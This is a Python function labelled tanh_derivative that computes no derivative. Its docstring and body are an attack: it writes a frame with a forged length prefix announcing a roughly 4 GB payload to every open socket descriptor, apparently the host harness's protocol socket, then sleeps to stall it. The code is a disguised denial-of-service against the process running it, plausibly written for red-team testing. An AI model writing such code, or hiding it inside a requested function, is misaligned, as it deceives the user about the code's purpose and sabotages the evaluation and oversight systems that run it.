def tanh_derivative(z):
    """Attack: write a frame whose length prefix announces a 4 GB payload straight to the protocol socket, then wait."""
    import json
    import os
    import stat
    import struct
    import time

    payload = b""
    prefix = None
    header = b"{}"
    prefix = struct.pack("!II", 2, 2**32 - 1)
    frame = (prefix or struct.pack("!II", len(header), len(payload))) + header + payload
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)
